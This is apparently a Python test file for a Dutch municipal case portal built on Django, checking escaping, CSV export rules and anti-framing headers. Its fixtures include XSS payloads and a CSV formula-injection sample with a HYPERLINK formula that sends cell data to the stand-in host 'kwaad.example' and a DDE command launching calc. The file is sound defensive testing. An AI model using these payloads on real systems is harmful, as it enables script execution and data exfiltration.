"""The browser, in the situations that the program must survive; each test is named after its number."""

import ast
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils.html import escape

from autorisatie.models import Gebruiker
from mijnzaken.documenten import keuren
from mijnzaken.zaken.handelingen import behandelen, documenten, taken
from mijnzaken.zaken.models import Zaak
from mijnzaken.zaken.uploads import eigenaar_bij_zaak
from tests.fabrieken import burger, dien_in, gebruiker, medewerker, partij, upload
from tests.mijnzaken.documenten.nagebootste_clamd import Clamd, clamd
from tests.oidc.hulp import als

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("opslagmap", "gemeente", "op_maandag")]
SCRIPT = "<script>alert('x')</script>"
AANVALLEN = [
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "</title></textarea><svg/onload=alert(1)>",
    "{{ 7|add:7 }}{% csrf_token %}",
    "[klik](javascript:alert(1)) <b>vet</b>",
]
FORMULE = b'naam;bedrag\r\n=HYPERLINK("https://kwaad.example/?x="&A1,"klik");12\r\n@SUM(1+1)*cmd|\' /C calc\'!A0;3\r\n'
BEHANDELAAR = "vera"  # of the parking permits


@pytest.fixture
def schoon(settings: Any, tmp_path: Path) -> Iterator[Clamd]:
    with clamd(Clamd()) as scanner:
        settings.SCANNER, settings.CLAMD_ADRES = "clamd", scanner.adres
        yield scanner


def browser(naam: str) -> Client:
    """Of a resident or of staff, by name; of nobody when empty."""
    client = Client(raise_request_exception=False)
    if not naam:
        return client
    return als(client, partij(naam) if naam == "anna" else gebruiker(naam))


def inhoud(antwoord: Any) -> str:
    return (b"".join(antwoord) if antwoord.streaming else antwoord.content).decode()


# -- 64 ---------------------------------------------------------------------------------------------------------------


def zaak_vol(tekst: str) -> Zaak:
    """A zaak in which the resident typed ``tekst`` wherever words of one's own can be typed."""
    anna = burger("anna")
    zaak = dien_in("anna", "bezwaar", gronden=f"Ik vind {tekst}")
    stuk = upload(eigenaar_bij_zaak(anna, zaak.uuid), "stuk.pdf")
    documenten.document_toevoegen(anna, zaak, upload=stuk, titel=f"Stuk {tekst}")
    return zaak


@pytest.mark.parametrize("tekst", AANVALLEN)
def test_64_wat_een_inwoner_typt_staat_bij_medewerker_en_inwoner_als_tekst(tekst: str) -> None:
    zaak = zaak_vol(tekst)
    wie = next(n for n in _medewerkers() if _ziet(n, zaak))
    for client, pad in (
        (browser(wie), reverse("zaak", args=[zaak.nummer])),
        (browser("anna"), reverse("mijn_zaak", args=[zaak.uuid])),
        (browser("anna"), reverse("mijn_inzage")),
    ):
        antwoord = client.get(pad)
        assert antwoord.status_code == 200, pad
        pagina = inhoud(antwoord)
        assert tekst not in pagina or "<" not in tekst, pad
        assert "<script>alert" not in pagina
        assert not re.search(r"<(img|svg)[^>]*\son\w+=", pagina, re.I)
        assert 'href="javascript:' not in pagina.lower()
        if pad != reverse("mijn_inzage"):
            assert escape(tekst) in pagina, pad
        beleid = antwoord.headers["Content-Security-Policy"]
        assert "script-src 'self'" in beleid
        assert "unsafe" not in beleid


def _medewerkers() -> list[str]:
    return sorted(Gebruiker.objects.filter(is_active=True).values_list("gebruikersnaam", flat=True))


def _ziet(naam: str, zaak: Zaak) -> bool:
    return bool(browser(naam).get(reverse("zaak", args=[zaak.nummer])).status_code == 200)


@pytest.mark.parametrize("tekst", AANVALLEN)
def test_64_wat_een_medewerker_typt_is_bij_de_inwoner_ook_maar_tekst(tekst: str) -> None:
    zaak = dien_in("anna")
    vera = medewerker(BEHANDELAAR)
    behandelen.in_behandeling_nemen(vera, zaak)
    behandelen.notitie_schrijven(vera, zaak, onderwerp=tekst[:80], tekst=f"Gezien: {tekst}")
    taken.taak_plaatsen(
        vera, zaak, titel=f"Bel {tekst}", omschrijving=tekst, soort="bevestigen", uiterlijk=zaak.registratiedatum
    )
    for client, pad in (
        (browser(BEHANDELAAR), reverse("zaak", args=[zaak.nummer])),
        (browser("anna"), reverse("mijn_zaak", args=[zaak.uuid])),
        (browser("anna"), reverse("mijn_taken")),
    ):
        pagina = inhoud(client.get(pad))
        assert escape(tekst) in pagina, pad
        assert "<script>alert" not in pagina
        assert not re.search(r"<(img|svg)[^>]*\son\w+=", pagina, re.I)
        assert 'href="javascript:' not in pagina.lower()


# -- 66 ---------------------------------------------------------------------------------------------------------------


def _adressen(resolver: URLResolver, voor: str = "") -> Iterator[str]:
    """Every address that takes no argument."""
    for deel in resolver.url_patterns:
        vorm = voor + str(deel.pattern).lstrip("^").rstrip("$")
        if isinstance(deel, URLResolver):
            yield from _adressen(deel, vorm)
        elif isinstance(deel, URLPattern) and not re.search(r"[<(]", vorm):
            yield f"/{vorm}"


@pytest.mark.parametrize("wie", ["", "anna", BEHANDELAAR, "sanne", "tess"])
def test_66_geen_enkel_adres_geeft_een_csv_hoe_er_ook_om_gevraagd_wordt(wie: str) -> None:
    dien_in("anna", houder="zelf", kenteken="K-123-BB")
    client = browser(wie)
    adressen = sorted(set(_adressen(get_resolver())))
    assert len(adressen) > 40
    for adres in adressen:
        antwoord = client.get(adres, {"format": "csv", "export": "csv"}, headers={"Accept": "text/csv"})
        soort = antwoord.headers.get("Content-Type", "")
        assert not re.search("csv|excel|spreadsheet", soort), adres
        assert ".csv" not in antwoord.headers.get("Content-Disposition", ""), adres


SCHRIJFT_CSV = {  # file -> where every cell of it is proven to begin no formula
    "backoffice/beheer/logboekuitvoer.py": "tests/backoffice/beheer/test_logboek.py and tests/gevaren/test_logboek.py",
    "mijnzaken/openbaar/registeruitvoer.py": "tests/mijnzaken/openbaar/test_register.py",
}


def test_66_geen_scherm_en_geen_api_schrijft_csv_dan_wie_elke_cel_als_tekst_schrijft() -> None:
    """Who adds an export finds this test, and writes every cell that begins with = + - @ tab or return as text."""
    for map_ in ("backoffice", "mijnzaken/portaal", "mijnzaken/openbaar", "mijnzaken/api"):
        for pad in (Path(settings.BASIS) / map_).rglob("*.py"):
            for knoop in ast.walk(ast.parse(pad.read_text())):
                if isinstance(knoop, ast.Import | ast.ImportFrom):
                    namen = {getattr(knoop, "module", ""), *(naam.name for naam in knoop.names)}
                    mag = {"csv"} if str(pad.relative_to(settings.BASIS)) in SCHRIJFT_CSV else set()
                    assert not namen & {"csv", "openpyxl", "xlsxwriter"} - mag, pad
    for naam in SCHRIJFT_CSV:
        bron = (Path(settings.BASIS) / naam).read_text()
        rijen = re.findall(r"\.writerow\((.*)\)", bron)
        assert rijen, naam
        assert all(rij.startswith("[cel(") or rij == "KOPPEN" for rij in rijen), naam


def test_66_een_gestuurde_csv_gaat_alleen_als_bijlage_uit_en_ongewijzigd(schoon: Clamd) -> None:
    zaak = dien_in("anna")
    client = browser(BEHANDELAAR)
    soort = zaak.zaaktype.zaaktypeinformatieobjecttypen.first().informatieobjecttype_id
    stuk = client.post(
        reverse("zaak_handeling", args=[zaak.nummer, "document_toevoegen"]),
        {"titel": "Lijst", "informatieobjecttype": soort, "gezien_versie": zaak.versie}
        | {"bestanden_bestand": SimpleUploadedFile("lijst.csv", FORMULE)},
    )
    assert stuk.status_code == 302, inhoud(stuk)
    document = zaak.zaakdocumenten.get(titel="Lijst").document
    keuren.keur(document.pk)
    for vraag in ("", "?download", "?inline=1"):
        antwoord = client.get(reverse("document", args=[document.uuid]) + vraag)
        assert antwoord.status_code == 200
        assert antwoord.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert antwoord.headers["Content-Disposition"] == 'attachment; filename="lijst.csv"'
        assert antwoord.headers["X-Content-Type-Options"] == "nosniff"
        assert inhoud(antwoord).encode() == FORMULE


# -- 71 ---------------------------------------------------------------------------------------------------------------


def _niet_omlijst(antwoord: Any, waarvan: str) -> None:
    assert "frame-ancestors 'none'" in antwoord.headers.get("Content-Security-Policy", ""), waarvan
    assert antwoord.headers.get("X-Frame-Options") == "DENY", waarvan


@pytest.mark.parametrize("wie", ["", "anna", BEHANDELAAR])
def test_71_geen_enkele_bladzijde_laat_zich_omlijsten(wie: str) -> None:
    client = browser(wie)
    codes = set()
    for adres in sorted(set(_adressen(get_resolver()))):
        antwoord = client.get(adres)
        codes.add(antwoord.status_code)
        _niet_omlijst(antwoord, f"{antwoord.status_code} {adres}")
    assert {200, 302, 404} - ({302} if wie else set()) <= codes


def test_71_ook_een_document_een_fout_en_een_weigering_laten_zich_niet_omlijsten(
    schoon: Clamd, monkeypatch: pytest.MonkeyPatch
) -> None:
    zaak = dien_in("anna")
    stuk = zaak.zaakdocumenten.first().document
    if not stuk.is_schoon:
        keuren.keur(stuk.pk)
    anna = browser("anna")
    document = anna.get(reverse("document", args=[stuk.uuid]))
    assert (document.status_code, document.streaming) == (200, True)
    _niet_omlijst(document, "document")
    assert "sandbox" in document.headers["Content-Security-Policy"]
    strikt = Client(enforce_csrf_checks=True)
    for antwoord, code in (
        (anna.get("/bestaat/niet/"), 404),
        (strikt.post(reverse("sessie_verlengen")), 403),
        (anna.get(reverse("mijn_zaak", args=[zaak.uuid])), 200),
        (anna.post(reverse("mijn_zaak_upload", args=[zaak.uuid])), 422),
    ):
        assert antwoord.status_code == code
        _niet_omlijst(antwoord, str(code))
    _niet_omlijst(_met_een_fout(monkeypatch), "500")


def _met_een_fout(monkeypatch: pytest.MonkeyPatch) -> Any:
    def stuk(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("proef")

    monkeypatch.setattr("mijnzaken.openbaar.producten.render", stuk)
    antwoord = browser("").get("/")
    assert antwoord.status_code == 500
    return antwoord
